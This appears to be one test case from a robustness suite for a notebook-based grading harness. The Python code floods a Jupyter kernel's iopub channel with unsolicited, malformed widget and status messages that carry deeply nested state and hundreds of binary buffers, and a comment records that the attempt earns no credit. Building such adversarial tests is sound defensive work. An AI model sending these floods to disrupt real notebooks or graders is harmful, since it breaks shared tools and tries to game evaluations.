# attack: widgets' messages that nobody awaits, with deep states and hundreds of binary pieces
# outcome: earns what the wrong answer earns
# stock: run
kernel, deep = get_ipython().kernel, 1
for _ in range(300):
    deep = {"state": [deep]}
for kind in ("comm_open", "comm_msg", "comm_close", "comm_info_reply", "status", "input_request", "debug_event", "shutdown_reply", "iopub_welcome"):
    for content in ({}, {"comm_id": "a", "target_name": "jupyter.widget", "data": deep}, {"comm_id": [], "data": None, "execution_state": deep, "restart": True}):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent(), buffers=[b"x"] * 300)
